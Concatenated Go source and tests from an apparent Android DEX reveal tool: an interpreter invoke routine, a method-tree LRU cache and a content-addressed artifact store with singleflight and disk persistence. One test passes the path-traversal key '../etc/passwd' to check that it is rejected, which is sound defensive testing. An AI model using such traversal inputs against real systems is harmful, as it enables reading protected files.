	if v.Kind != KindRef || v.Ref == nil {
		return false
	}
	if desc == "Ljava/lang/Object;" {
		return true
	}
	target, err := rt.FindClass(desc)
	if err != nil {
		return false
	}
	return v.Ref.Class.IsSubclassOf(target)
}

func (rt *Runtime) doInvoke(st *execState, f *frame, in *bytecode.Inst, ci int) error {
	m := f.method
	site := f.icAt(ci)
	var ref dex.MethodRef
	if site != nil && site.valid && site.index == in.Index {
		ref = site.mref
	} else {
		ref = m.Class.File.MethodAt(in.Index)
		if site != nil {
			*site = icSite{valid: true, index: in.Index, mref: ref}
		}
	}
	instance := in.Op != bytecode.OpInvokeStatic && in.Op != bytecode.OpInvokeStaticR

	var recv *Object
	argRegs := in.Args
	if instance {
		if len(argRegs) == 0 {
			return fmt.Errorf("art: %s: instance invoke without receiver", m.Key())
		}
		rv := f.regs[argRegs[0]]
		if rv.IsNull() {
			return rt.Throw("Ljava/lang/NullPointerException;",
				"invoke "+ref.Key()+" on null in "+m.Key())
		}
		recv = rv.Ref
		argRegs = argRegs[1:]
	}
	args := make([]Value, len(argRegs))
	for i, r := range argRegs {
		if int(r) >= len(f.regs) {
			return fmt.Errorf("art: %s: arg register v%d out of range", m.Key(), r)
		}
		args[i] = f.regs[r]
	}

	var target *Method
	switch in.Op {
	case bytecode.OpInvokeVirtual, bytecode.OpInvokeInterface,
		bytecode.OpInvokeVirtualR, bytecode.OpInvokeInterR:
		// Monomorphic inline cache: sites overwhelmingly see one receiver
		// class, so the superclass/interface walk happens once per class.
		if site != nil && site.recvTgt != nil && site.recvCls == recv.Class {
			target = site.recvTgt
		} else {
			target = recv.Class.FindMethod(ref.Name, ref.Signature)
			if site != nil && target != nil {
				site.recvCls, site.recvTgt = recv.Class, target
			}
		}
	case bytecode.OpInvokeSuper, bytecode.OpInvokeSuperR:
		if site != nil && site.target != nil {
			target = site.target
		} else if m.Class.Super != nil {
			target = m.Class.Super.FindMethod(ref.Name, ref.Signature)
			if site != nil {
				site.target = target
			}
		}
	default: // direct, static
		var c *Class
		if site != nil {
			c = site.cls
		}
		if c == nil {
			cc, err := rt.FindClass(ref.Class)
			if err != nil {
				return rt.Throw("Ljava/lang/ClassNotFoundException;", ref.Class)
			}
			c = cc
			if site != nil {
				site.cls = c
			}
		}
		if err := rt.ensureInitialized(st, c); err != nil {
			return err
		}
		if site != nil && site.target != nil {
			target = site.target
		} else {
			target = c.FindMethod(ref.Name, ref.Signature)
			if site != nil {
				site.target = target
			}
		}
	}
	if target == nil {
		return rt.Throw("Ljava/lang/NoSuchMethodException;", ref.Key())
	}
	res, err := rt.invoke(st, target, recv, args)
	if err != nil {
		return err
	}
	f.result = res
	f.hasRes = true
	return nil
}
