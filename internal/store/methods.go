package store

import (
	"container/list"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"
)

// The method-level keyspace sits beside the whole-APK artifact keyspace: an
// entry is one method's canonicalized collection tree (a serialized
// collector.MethodRecord), addressed by the pair (options fingerprint,
// method fingerprint). Because the method fingerprint folds in the
// fingerprints of every resolved callee (see dexlego.MethodFingerprints),
// an unchanged key across app versions implies the method collects the same
// trees, which is what makes serving it from cache sound.
//
// Entries are value-addressed and immutable, so the cache needs no
// invalidation protocol: a changed method simply hashes to a different key
// and the stale entry ages out of the LRU.

// DefaultMethodCacheBytes bounds the in-memory method-tree LRU when
// OpenMethodCache is given no explicit capacity.
const DefaultMethodCacheBytes int64 = 64 << 20

// MethodKeyFor derives the content address of one method's collection tree
// from the canonical options fingerprint (dexlego.Options.Fingerprint) and
// the method-body fingerprint (dexlego.MethodFingerprints). The options
// fingerprint participates because collection is options-dependent: a tree
// collected under force-execution is not the tree collected without it.
func MethodKeyFor(optionsFingerprint, methodFingerprint string) string {
	h := sha256.New()
	h.Write([]byte("methodtree/v1|"))
	h.Write([]byte(optionsFingerprint))
	h.Write([]byte{'|'})
	h.Write([]byte(methodFingerprint))
	return hex.EncodeToString(h.Sum(nil))
}

// SpillKeyFor derives the content address of a mid-reveal spilled method
// record from the serialized bytes themselves. Unlike MethodKeyFor it needs
// no fingerprint pair: the spill tier holds records displaced from a live
// result to cap the reveal's heap, including methods outside the
// fingerprint map (dynamically loaded DEX), and content addressing makes
// every entry immutable — an evicted-then-refetched key can never observe
// different bytes.
func SpillKeyFor(data []byte) string {
	h := sha256.New()
	h.Write([]byte("spill/v1|"))
	h.Write(data)
	return hex.EncodeToString(h.Sum(nil))
}

// methodEntry is one resident method tree; data is immutable once inserted.
type methodEntry struct {
	key  string
	data []byte
}

// MethodCache is the per-method collection-tree cache: a byte-bounded
// in-memory LRU in front of an optional on-disk tier with the same
// two-level fan-out and atomic persistence as the artifact store. All
// methods are safe for concurrent use.
type MethodCache struct {
	dir      string // "" = memory-only
	capBytes int64

	mu      sync.Mutex
	byKey   map[string]*list.Element // -> *methodEntry inside lru
	lru     *list.List               // front = most recently used
	bytes   int64
	hits    atomic.Int64
	misses  atomic.Int64
	evicted atomic.Int64
}

// OpenMethodCache returns a method-tree cache persisting under dir (created
// if missing; "" keeps entries in memory only) holding at most capBytes of
// serialized trees in memory (<= 0 selects DefaultMethodCacheBytes).
func OpenMethodCache(dir string, capBytes int64) (*MethodCache, error) {
	if capBytes <= 0 {
		capBytes = DefaultMethodCacheBytes
	}
	if dir != "" {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			return nil, fmt.Errorf("store: method cache: %w", err)
		}
	}
	return &MethodCache{
		dir:      dir,
		capBytes: capBytes,
		byKey:    make(map[string]*list.Element),
		lru:      list.New(),
	}, nil
}

// Hits counts lookups served from memory or disk; Misses counts lookups
// that found nothing; Evicted counts LRU evictions (the disk tier keeps
// evicted entries).
func (c *MethodCache) Hits() int64    { return c.hits.Load() }
func (c *MethodCache) Misses() int64  { return c.misses.Load() }
func (c *MethodCache) Evicted() int64 { return c.evicted.Load() }

// Len returns the number of method trees resident in memory.
func (c *MethodCache) Len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.lru.Len()
}

// Bytes returns the serialized size of the resident method trees.
func (c *MethodCache) Bytes() int64 {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.bytes
}

// Get returns the serialized tree stored under key, consulting memory then
// disk. A disk hit is promoted into the LRU. Callers must not mutate the
// returned bytes.
func (c *MethodCache) Get(key string) ([]byte, bool) {
	if !ValidKey(key) {
		return nil, false
	}
	c.mu.Lock()
	if el, ok := c.byKey[key]; ok {
		c.lru.MoveToFront(el)
		data := el.Value.(*methodEntry).data
		c.mu.Unlock()
		c.hits.Add(1)
		return data, true
	}
	c.mu.Unlock()
	if c.dir != "" {
		if data, err := os.ReadFile(c.treePath(key)); err == nil && len(data) > 0 {
			c.mu.Lock()
			c.insertLocked(key, data)
			c.mu.Unlock()
			c.hits.Add(1)
			return data, true
		}
	}
	c.misses.Add(1)
	return nil, false
}

// Put stores a serialized tree under key, persisting it to the disk tier
// before publishing it in memory. Storing under an existing key is a no-op
// (entries are value-addressed, so the bytes are equivalent).
func (c *MethodCache) Put(key string, data []byte) error {
	if !ValidKey(key) {
		return ErrBadKey
	}
	if len(data) == 0 {
		return fmt.Errorf("store: refusing to cache an empty method tree")
	}
	if c.dir != "" {
		path := c.treePath(key)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			return fmt.Errorf("store: method cache: %w", err)
		}
		if err := atomicWrite(path, data); err != nil {
			return err
		}
	}
	c.mu.Lock()
	c.insertLocked(key, data)
	c.mu.Unlock()
	return nil
}

// insertLocked publishes data under key, evicting cold entries past the
// byte budget. Evicted entries stay on disk for future promotion.
func (c *MethodCache) insertLocked(key string, data []byte) {
	if el, ok := c.byKey[key]; ok {
		c.lru.MoveToFront(el)
		return
	}
	c.byKey[key] = c.lru.PushFront(&methodEntry{key: key, data: data})
	c.bytes += int64(len(data))
	for c.bytes > c.capBytes && c.lru.Len() > 1 {
		back := c.lru.Back()
		old := c.lru.Remove(back).(*methodEntry)
		delete(c.byKey, old.key)
		c.bytes -= int64(len(old.data))
		c.evicted.Add(1)
	}
}

// treePath maps a key into the two-level on-disk fan-out
// (<dir>/<key[:2]>/<key>.json).
func (c *MethodCache) treePath(key string) string {
	return filepath.Join(c.dir, key[:2], key+".json")
}
