package store

import (
	"crypto/sha256"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"dexlego/internal/pipeline"
)

// testKey derives a distinct valid cache key per index.
func testKey(i int) string {
	sum := sha256.Sum256([]byte(fmt.Sprintf("key-%d", i)))
	return KeyFor(sum, "opts/v1")
}

// payloadFor derives the artifact bytes every test expects under a key, so
// readers can verify integrity no matter which goroutine revealed it.
func payloadFor(key string) []byte {
	return []byte("revealed-" + key)
}

func artifactFor(key string) *Artifact {
	return &Artifact{
		Name:     "app-" + key[:8],
		Revealed: payloadFor(key),
		Metrics:  &pipeline.AppMetrics{Name: "app-" + key[:8], WallNS: 42},
	}
}

func TestKeyForShapeAndSensitivity(t *testing.T) {
	h1 := sha256.Sum256([]byte("apk-1"))
	h2 := sha256.Sum256([]byte("apk-2"))
	k := KeyFor(h1, "opts/v1|fuzz=false")
	if !ValidKey(k) {
		t.Fatalf("KeyFor produced invalid key %q", k)
	}
	if KeyFor(h1, "opts/v1|fuzz=false") != k {
		t.Error("KeyFor not deterministic")
	}
	if KeyFor(h2, "opts/v1|fuzz=false") == k {
		t.Error("different APK hash, same key")
	}
	if KeyFor(h1, "opts/v1|fuzz=true") == k {
		t.Error("different options fingerprint, same key")
	}
	for _, bad := range []string{"", "abc", strings.Repeat("z", 64),
		strings.Repeat("A", 64), "../" + strings.Repeat("a", 61)} {
		if ValidKey(bad) {
			t.Errorf("ValidKey(%q) = true", bad)
		}
	}
}

func TestGetOrRevealSingleflight(t *testing.T) {
	s, err := Open(t.TempDir(), 8)
	if err != nil {
		t.Fatal(err)
	}
	key := testKey(0)
	var reveals atomic.Int64
	var served atomic.Int64 // callers that did NOT run the reveal
	const callers = 32
	start := make(chan struct{})
	var wg sync.WaitGroup
	for i := 0; i < callers; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			<-start
			art, hit, err := s.GetOrReveal(key, func() (*Artifact, error) {
				reveals.Add(1)
				time.Sleep(10 * time.Millisecond) // widen the in-flight window
				return artifactFor(key), nil
			})
			if err != nil {
				t.Error(err)
				return
			}
			if hit {
				served.Add(1)
			}
			if string(art.Revealed) != string(payloadFor(key)) {
				t.Errorf("caller got wrong payload %q", art.Revealed)
			}
		}()
	}
	close(start)
	wg.Wait()
	if got := reveals.Load(); got != 1 {
		t.Errorf("reveal ran %d times for one key, want exactly 1", got)
	}
	if got := served.Load(); got != callers-1 {
		t.Errorf("served-from-store callers = %d, want %d", got, callers-1)
	}
	if s.Misses() != 1 || s.Hits() != callers-1 {
		t.Errorf("hits/misses = %d/%d, want %d/1", s.Hits(), s.Misses(), callers-1)
	}
}

func TestPersistAcrossReopen(t *testing.T) {
	dir := t.TempDir()
	s1, err := Open(dir, 4)
	if err != nil {
		t.Fatal(err)
	}
	key := testKey(1)
	if _, hit, err := s1.GetOrReveal(key, func() (*Artifact, error) {
		return artifactFor(key), nil
	}); err != nil || hit {
		t.Fatalf("first reveal: hit=%t err=%v", hit, err)
	}
	// A second store over the same directory serves the artifact from disk
	// without revealing.
	s2, err := Open(dir, 4)
	if err != nil {
		t.Fatal(err)
	}
	art, ok := s2.Get(key)
	if !ok {
		t.Fatal("reopened store missed a persisted artifact")
	}
	if string(art.Revealed) != string(payloadFor(key)) {
		t.Errorf("persisted payload corrupted: %q", art.Revealed)
	}
	if art.Metrics == nil || art.Metrics.WallNS != 42 {
		t.Errorf("persisted metrics lost: %+v", art.Metrics)
	}
	if art.Key != key || art.Name != "app-"+key[:8] {
		t.Errorf("persisted identity wrong: %+v", art)
	}
	// GetOrReveal on the reopened store counts a hit, not a reveal.
	if _, hit, err := s2.GetOrReveal(key, func() (*Artifact, error) {
		t.Error("reveal ran despite persisted artifact")
		return nil, nil
	}); err != nil || !hit {
		t.Errorf("disk-backed GetOrReveal: hit=%t err=%v", hit, err)
	}
	// No temp files survive the atomic writes.
	err = filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() && strings.Contains(d.Name(), ".tmp") {
			t.Errorf("leftover temp file %s", path)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}

func TestCorruptDiskEntryIsAMiss(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, 4)
	if err != nil {
		t.Fatal(err)
	}
	key := testKey(2)
	if _, _, err := s.GetOrReveal(key, func() (*Artifact, error) {
		return artifactFor(key), nil
	}); err != nil {
		t.Fatal(err)
	}
	// Corrupt the metadata on disk; a fresh store must treat the entry as
	// a miss and re-reveal rather than serve garbage.
	if err := os.WriteFile(filepath.Join(dir, key[:2], key+".json"), []byte("{broken"), 0o644); err != nil {
		t.Fatal(err)
	}
	s2, err := Open(dir, 4)
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := s2.Get(key); ok {
		t.Error("corrupt entry served as a hit")
	}
	revealed := false
	if _, hit, err := s2.GetOrReveal(key, func() (*Artifact, error) {
		revealed = true
		return artifactFor(key), nil
	}); err != nil || hit || !revealed {
		t.Errorf("corrupt entry: hit=%t revealed=%t err=%v", hit, revealed, err)
	}
}

func TestFailedRevealCachesNothing(t *testing.T) {
	s, err := Open("", 4)
	if err != nil {
		t.Fatal(err)
	}
	key := testKey(3)
	boom := fmt.Errorf("driver crashed")
	if _, _, err := s.GetOrReveal(key, func() (*Artifact, error) { return nil, boom }); err != boom {
		t.Fatalf("error not surfaced: %v", err)
	}
	// The next caller retries instead of seeing a cached failure.
	art, hit, err := s.GetOrReveal(key, func() (*Artifact, error) { return artifactFor(key), nil })
	if err != nil || hit || art == nil {
		t.Fatalf("retry after failure: art=%v hit=%t err=%v", art, hit, err)
	}
	if _, _, err := s.GetOrReveal(key, func() (*Artifact, error) {
		return &Artifact{}, nil
	}); err != nil {
		t.Fatal(err) // served from memory; empty-artifact reveal never runs
	}
	if _, _, err := s.GetOrReveal(testKey(4), func() (*Artifact, error) {
		return &Artifact{}, nil
	}); err == nil {
		t.Error("empty artifact must be rejected")
	}
	if _, _, err := s.GetOrReveal("../etc/passwd", nil); err != ErrBadKey {
		t.Errorf("bad key error = %v, want ErrBadKey", err)
	}
}

// TestLRUEvictionNeverCorruptsReaders churns a tiny LRU from many
// goroutines while readers verify every artifact they receive, proving —
// under -race — that eviction never invalidates an artifact mid-read:
// artifacts are immutable, eviction only drops the cache reference.
func TestLRUEvictionNeverCorruptsReaders(t *testing.T) {
	s, err := Open("", 2) // memory-only: eviction is real data loss
	if err != nil {
		t.Fatal(err)
	}
	const keys = 16
	const readers = 8
	const rounds = 200
	var wg sync.WaitGroup
	for r := 0; r < readers; r++ {
		wg.Add(1)
		go func(seed int) {
			defer wg.Done()
			for i := 0; i < rounds; i++ {
				key := testKey((seed + i) % keys)
				art, _, err := s.GetOrReveal(key, func() (*Artifact, error) {
					return artifactFor(key), nil
				})
				if err != nil {
					t.Error(err)
					return
				}
				// Hold the artifact across other goroutines' evictions and
				// verify it byte-for-byte.
				if string(art.Revealed) != string(payloadFor(key)) {
					t.Errorf("reader observed corrupted artifact for %s", key[:8])
					return
				}
				if art.Metrics == nil || art.Metrics.WallNS != 42 {
					t.Errorf("reader observed corrupted metrics for %s", key[:8])
					return
				}
			}
		}(r)
	}
	wg.Wait()
	if n := s.Len(); n > 2 {
		t.Errorf("LRU holds %d entries, cap 2", n)
	}
	if s.Evicted() == 0 {
		t.Error("test never exercised eviction")
	}
}

// TestGetRacingEvictionOfSameKey drives the peer-fetch read path (Get, no
// reveal callback) against concurrent Put-driven evictions of the very key
// being read. The fleet makes this path hot: every peer fetch is a bare Get
// while replication pushes churn the LRU. The reader must win (a complete,
// byte-identical artifact — possibly re-promoted from disk) or take a clean
// miss; a torn artifact is the one unacceptable outcome.
func TestGetRacingEvictionOfSameKey(t *testing.T) {
	for _, disk := range []bool{false, true} {
		name := "memory-only"
		dir := ""
		if disk {
			name = "disk-backed"
			dir = t.TempDir()
		}
		t.Run(name, func(t *testing.T) {
			s, err := Open(dir, 1) // cap 1: every insert evicts the previous key
			if err != nil {
				t.Fatal(err)
			}
			hot := testKey(0)
			if err := s.Put(artifactFor2(hot)); err != nil {
				t.Fatal(err)
			}
			done := make(chan struct{})
			var wg sync.WaitGroup
			wg.Add(1)
			go func() { // churn: alternate the hot key with evictors
				defer wg.Done()
				for i := 1; ; i++ {
					select {
					case <-done:
						return
					default:
					}
					key := testKey(i % 8)
					if err := s.Put(artifactFor2(key)); err != nil {
						t.Error(err)
						return
					}
				}
			}()
			const readers = 4
			const rounds = 500
			hits := int64(0)
			for r := 0; r < readers; r++ {
				wg.Add(1)
				go func() {
					defer wg.Done()
					for i := 0; i < rounds; i++ {
						art, ok := s.Get(hot)
						if !ok {
							continue // clean miss: acceptable, the key was evicted
						}
						atomic.AddInt64(&hits, 1)
						if string(art.Revealed) != string(payloadFor(hot)) {
							t.Errorf("torn artifact: %d bytes", len(art.Revealed))
							return
						}
						if art.Metrics == nil || art.Metrics.WallNS != 42 {
							t.Error("torn artifact metadata")
							return
						}
					}
				}()
			}
			// Re-seed the hot key while readers run so both outcomes occur.
			for i := 0; i < 50; i++ {
				if err := s.Put(artifactFor2(hot)); err != nil {
					t.Fatal(err)
				}
				time.Sleep(time.Millisecond)
			}
			close(done)
			wg.Wait()
			if disk && atomic.LoadInt64(&hits) == 0 {
				// The disk tier re-promotes evicted artifacts, so a
				// disk-backed store should have served at least one read.
				t.Error("disk-backed store never served the hot key")
			}
			if s.Evicted() == 0 {
				t.Error("test never exercised eviction")
			}
		})
	}
}

// artifactFor2 is artifactFor with the key stamped on, as Put requires.
func artifactFor2(key string) *Artifact {
	art := artifactFor(key)
	art.Key = key
	return art
}

func TestPutValidatesAndPersists(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, 4)
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Put(nil); err == nil {
		t.Error("Put(nil) must fail")
	}
	if err := s.Put(&Artifact{Key: "nope", Revealed: []byte("x")}); err == nil {
		t.Error("Put with an invalid key must fail")
	}
	if err := s.Put(&Artifact{Key: testKey(1)}); err == nil {
		t.Error("Put with no revealed bytes must fail")
	}
	key := testKey(2)
	if err := s.Put(artifactFor2(key)); err != nil {
		t.Fatal(err)
	}
	// Resident in memory, and a hit does not count as a miss.
	art, ok := s.Get(key)
	if !ok || string(art.Revealed) != string(payloadFor(key)) {
		t.Fatalf("Get after Put = %v, %t", art, ok)
	}
	if s.Misses() != 0 {
		t.Errorf("Put counted %d misses", s.Misses())
	}
	// Persisted: a fresh store over the same directory serves it from disk.
	s2, err := Open(dir, 4)
	if err != nil {
		t.Fatal(err)
	}
	art2, ok := s2.Get(key)
	if !ok || string(art2.Revealed) != string(payloadFor(key)) {
		t.Fatalf("reopened Get after Put = %v, %t", art2, ok)
	}
}

func TestWireRoundTrip(t *testing.T) {
	key := testKey(3)
	art := artifactFor2(key)
	frame, err := WireEncode(art)
	if err != nil {
		t.Fatal(err)
	}
	back, err := WireDecode(frame)
	if err != nil {
		t.Fatal(err)
	}
	if back.Key != key || back.Name != art.Name {
		t.Errorf("metadata round trip: %+v", back)
	}
	if string(back.Revealed) != string(art.Revealed) {
		t.Error("revealed bytes did not round trip")
	}
	if back.Metrics == nil || back.Metrics.WallNS != art.Metrics.WallNS {
		t.Errorf("metrics did not round trip: %+v", back.Metrics)
	}
	// The decoded artifact must not alias the frame.
	frame[len(frame)-1] ^= 0xff
	if string(back.Revealed) != string(art.Revealed) {
		t.Error("decoded artifact aliases the transport buffer")
	}
}

func TestWireDecodeRejectsCorruptFrames(t *testing.T) {
	key := testKey(4)
	good, err := WireEncode(artifactFor2(key))
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name  string
		frame []byte
	}{
		{"empty", nil},
		{"short prefix", good[:4]},
		{"length past end", append([]byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff}, good[8:]...)},
		{"no revealed bytes", good[:len(good)-len(payloadFor(key))]},
		{"garbage metadata", append([]byte{0, 0, 0, 0, 0, 0, 0, 4, 'j', 'u', 'n', 'k'}, "dex"...)},
	}
	for _, c := range cases {
		if _, err := WireDecode(c.frame); err == nil {
			t.Errorf("%s: WireDecode accepted a corrupt frame", c.name)
		}
	}
	if _, err := WireEncode(&Artifact{Key: "bad", Revealed: []byte("x")}); err == nil {
		t.Error("WireEncode accepted an invalid key")
	}
	if _, err := WireEncode(&Artifact{Key: key}); err == nil {
		t.Error("WireEncode accepted an empty artifact")
	}
}
