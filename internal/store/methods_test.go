package store

import (
	"fmt"
	"sync"
	"testing"
)

func TestSpillKeyForContentAddressed(t *testing.T) {
	a := SpillKeyFor([]byte("record-a"))
	b := SpillKeyFor([]byte("record-b"))
	if a == b {
		t.Fatalf("distinct payloads share a spill key %s", a)
	}
	if a != SpillKeyFor([]byte("record-a")) {
		t.Fatalf("spill key not deterministic")
	}
	if !ValidKey(a) {
		t.Fatalf("spill key %q not a valid store key", a)
	}
	if a == MethodKeyFor("opts", "record-a") {
		t.Fatalf("spill keyspace collides with the method-tree keyspace")
	}
}

// TestMethodCacheEvictionStorm hammers a near-zero-capacity memory-only
// cache from many goroutines: every insert evicts, every Get races a
// concurrent eviction of the same key. The required behavior is the spill
// tier's contract — a Get may miss (the caller falls back to its retained
// bytes) but must never return wrong bytes, and the accounting must never
// go negative. Run with -race for the full value.
func TestMethodCacheEvictionStorm(t *testing.T) {
	c, err := OpenMethodCache("", 1) // evict on every insert past the first
	if err != nil {
		t.Fatal(err)
	}
	const workers = 8
	const rounds = 200
	payload := func(w, i int) []byte {
		return []byte(fmt.Sprintf("worker-%d-record-%d", w, i))
	}
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		w := w
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < rounds; i++ {
				data := payload(w, i)
				key := SpillKeyFor(data)
				if err := c.Put(key, data); err != nil {
					t.Errorf("put: %v", err)
					return
				}
				// Read back every key this worker ever wrote; evicted ones
				// may miss, but a hit must carry the exact bytes.
				probe := payload(w, i/2)
				if got, ok := c.Get(SpillKeyFor(probe)); ok && string(got) != string(probe) {
					t.Errorf("cache returned wrong bytes for %q: %q", probe, got)
					return
				}
			}
		}()
	}
	wg.Wait()
	if b := c.Bytes(); b < 0 {
		t.Fatalf("resident bytes negative after storm: %d", b)
	}
	if c.Len() < 1 {
		t.Fatalf("eviction emptied the cache below its one-entry floor")
	}
	if c.Evicted() == 0 {
		t.Fatalf("storm evicted nothing — capacity not exercised")
	}
}
