// Package store is the content-addressed artifact cache of the reveal
// service. The paper positions DexLego as a front-end producing revealed
// APKs for downstream static analyzers, so the valuable unit is the
// reveal artifact: produced once, read many times. A Store addresses each
// artifact by a SHA-256 key derived from the input APK's canonical content
// hash and the canonical Options fingerprint (see KeyFor), which is sound
// because a reveal is deterministic for a fixed (APK, Options) pair —
// DESIGN.md maps this assumption back to the paper.
//
// The store is two tiers: a bounded in-memory LRU of decoded artifacts in
// front of an unbounded on-disk layout (two-level fan-out directories,
// atomic write-then-rename persistence of the revealed APK and its
// pipeline.AppMetrics/obs snapshot). Concurrent requests for the same key
// are deduplicated by singleflight: exactly one caller runs the reveal,
// everyone else waits for its artifact.
package store

import (
	"container/list"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"

	"dexlego/internal/pipeline"
)

// DefaultCacheEntries bounds the in-memory LRU when Open is given no
// explicit capacity.
const DefaultCacheEntries = 128

// keyHexLen is the length of a valid hex-encoded cache key.
const keyHexLen = sha256.Size * 2

// ErrBadKey rejects keys that are not 64 lowercase hex characters; the
// check is what makes keys safe to splice into filesystem paths.
var ErrBadKey = errors.New("store: cache key is not a sha-256 hex string")

// KeyFor derives the content address of a reveal artifact from the input
// APK's canonical content hash (apk.(*APK).ContentHash) and the canonical
// options fingerprint (dexlego.Options.Fingerprint).
func KeyFor(apkHash [32]byte, optionsFingerprint string) string {
	h := sha256.New()
	h.Write([]byte("artifact/v1|"))
	h.Write(apkHash[:])
	h.Write([]byte{'|'})
	h.Write([]byte(optionsFingerprint))
	return hex.EncodeToString(h.Sum(nil))
}

// ValidKey reports whether key has the shape KeyFor produces.
func ValidKey(key string) bool {
	if len(key) != keyHexLen {
		return false
	}
	for i := 0; i < len(key); i++ {
		c := key[i]
		if (c < '0' || c > '9') && (c < 'a' || c > 'f') {
			return false
		}
	}
	return true
}

// Artifact is one cached reveal outcome. Artifacts are immutable once
// stored: readers may hold one across LRU evictions without coordination.
type Artifact struct {
	// Key is the content address the artifact is stored under.
	Key string `json:"key"`
	// Name labels the input (a sample name, file path, or content-derived
	// default) for reports.
	Name string `json:"name"`
	// Revealed is the revealed APK (classes.dex replaced by the
	// reassembled DEX), serialized by apk.(*APK).Bytes.
	Revealed []byte `json:"-"`
	// Metrics is the reveal's per-stage metrics including its obs
	// snapshot, persisted alongside the artifact.
	Metrics *pipeline.AppMetrics `json:"metrics"`
}

// flightCall is one in-flight reveal other callers of the same key wait on.
type flightCall struct {
	done chan struct{}
	art  *Artifact
	err  error
}

// Store is a two-tier content-addressed artifact cache. All methods are
// safe for concurrent use.
type Store struct {
	dir string // "" = memory-only
	cap int

	mu      sync.Mutex
	byKey   map[string]*list.Element // -> *Artifact inside lru
	lru     *list.List               // front = most recently used
	flight  map[string]*flightCall
	hits    atomic.Int64
	misses  atomic.Int64
	evicted atomic.Int64
}

// Open returns a store persisting under dir (created if missing; "" keeps
// artifacts in memory only) with an LRU of capEntries decoded artifacts
// (<= 0 selects DefaultCacheEntries).
func Open(dir string, capEntries int) (*Store, error) {
	if capEntries <= 0 {
		capEntries = DefaultCacheEntries
	}
	if dir != "" {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			return nil, fmt.Errorf("store: %w", err)
		}
	}
	return &Store{
		dir:    dir,
		cap:    capEntries,
		byKey:  make(map[string]*list.Element),
		lru:    list.New(),
		flight: make(map[string]*flightCall),
	}, nil
}

// Hits counts lookups served without running a reveal (memory, disk, or
// singleflight followers); Misses counts reveals actually run; Evicted
// counts LRU evictions (the disk tier keeps evicted artifacts).
func (s *Store) Hits() int64    { return s.hits.Load() }
func (s *Store) Misses() int64  { return s.misses.Load() }
func (s *Store) Evicted() int64 { return s.evicted.Load() }

// Len returns the number of artifacts resident in memory.
func (s *Store) Len() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.lru.Len()
}

// Get returns the artifact stored under key, consulting memory then disk,
// without ever running a reveal. A disk hit is promoted into the LRU.
func (s *Store) Get(key string) (*Artifact, bool) {
	if !ValidKey(key) {
		return nil, false
	}
	s.mu.Lock()
	if el, ok := s.byKey[key]; ok {
		s.lru.MoveToFront(el)
		s.mu.Unlock()
		s.hits.Add(1)
		return el.Value.(*Artifact), true
	}
	s.mu.Unlock()
	art, err := s.loadDisk(key)
	if err != nil || art == nil {
		return nil, false
	}
	s.mu.Lock()
	s.insertLocked(key, art)
	s.mu.Unlock()
	s.hits.Add(1)
	return art, true
}

// GetOrReveal returns the artifact for key, running reveal at most once
// across all concurrent callers of the same key. The bool reports whether
// the caller was served from the store (memory, disk, or another caller's
// in-flight reveal) rather than by running reveal itself. A failed reveal
// caches nothing: the next request retries.
func (s *Store) GetOrReveal(key string, reveal func() (*Artifact, error)) (*Artifact, bool, error) {
	if !ValidKey(key) {
		return nil, false, ErrBadKey
	}
	s.mu.Lock()
	if el, ok := s.byKey[key]; ok {
		s.lru.MoveToFront(el)
		s.mu.Unlock()
		s.hits.Add(1)
		return el.Value.(*Artifact), true, nil
	}
	if c, ok := s.flight[key]; ok {
		s.mu.Unlock()
		<-c.done
		if c.err != nil {
			return nil, false, c.err
		}
		s.hits.Add(1)
		return c.art, true, nil
	}
	c := &flightCall{done: make(chan struct{})}
	s.flight[key] = c
	s.mu.Unlock()

	art, hit, err := s.fill(key, reveal)
	c.art, c.err = art, err

	s.mu.Lock()
	delete(s.flight, key)
	if err == nil {
		s.insertLocked(key, art)
	}
	s.mu.Unlock()
	close(c.done)
	if err != nil {
		return nil, false, err
	}
	if hit {
		s.hits.Add(1)
	} else {
		s.misses.Add(1)
	}
	return art, hit, nil
}

// Put inserts an externally produced artifact — a peer fetch or a fleet
// replication push — under art.Key, persisting it exactly like a locally
// revealed one. Put counts neither a hit nor a miss: those series measure
// this node's reveal work, and the fleet layer accounts for peer traffic
// separately.
func (s *Store) Put(art *Artifact) error {
	if art == nil || !ValidKey(art.Key) {
		return ErrBadKey
	}
	if len(art.Revealed) == 0 {
		return errors.New("store: refusing to cache an empty artifact")
	}
	if err := s.persist(art); err != nil {
		return err
	}
	s.mu.Lock()
	s.insertLocked(art.Key, art)
	s.mu.Unlock()
	return nil
}

// fill resolves a singleflight leader's miss: disk first, then the reveal
// callback, persisting a fresh artifact before publishing it.
func (s *Store) fill(key string, reveal func() (*Artifact, error)) (*Artifact, bool, error) {
	if art, err := s.loadDisk(key); err == nil && art != nil {
		return art, true, nil
	}
	art, err := reveal()
	if err != nil {
		return nil, false, err
	}
	if art == nil || len(art.Revealed) == 0 {
		return nil, false, errors.New("store: reveal produced an empty artifact")
	}
	art.Key = key
	if err := s.persist(art); err != nil {
		return nil, false, err
	}
	return art, false, nil
}

// insertLocked publishes art under key in the LRU, evicting from the cold
// end past capacity. Evicted artifacts stay valid for readers holding them
// (they are immutable) and stay on disk for future promotion.
func (s *Store) insertLocked(key string, art *Artifact) {
	if el, ok := s.byKey[key]; ok {
